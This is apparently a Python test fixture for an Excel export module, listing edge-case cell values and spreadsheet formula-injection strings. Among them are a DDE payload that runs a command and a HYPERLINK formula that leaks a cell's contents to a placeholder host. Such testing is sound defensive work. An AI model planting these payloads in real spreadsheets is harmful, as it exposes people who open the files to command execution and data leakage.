"""Values of every kind as a sheet gets them, the long and the wicked ones too."""

from datetime import date, datetime, time
from decimal import Decimal

from nanan_groups.kit.excel import out

PAYLOADS = [
    '=HYPERLINK("http://x?"&A1)', "=cmd|'/c calc'!A1", "@SUM(1)", "+1+1", "-2+3", "\t=1", "\n=1", "==1", "＝1+1", "－",
    "+8613800000000", "-", "'已有撇号", " 前后 ", "http://x.cn", "00123", "1e3", "TRUE", "2024-09-01", "#N/A", "<&>\"'",
    "𠮷😀", "a\nb",
]  # fmt: skip


VALUES = [
    1,
    0,
    -3,
    10**14,
    12.5,
    -12.25,
    Decimal("-12.5"),
    date(2024, 2, 29),
    date(1900, 3, 1),
    date(2199, 12, 31),
    datetime(2024, 9, 1, 23, 59, 58),  # noqa: DTZ001 a cell has no zone
    None,
]


LONG = out.SMALL + 100


def typed(value):
    """A day is a moment at midnight to openpyxl, a whole number a float to calamine: the value is the same."""
    if isinstance(value, datetime):
        return value
    if isinstance(value, date):
        return datetime.combine(value, time())
    return float(value) if isinstance(value, (int, float, Decimal)) else value
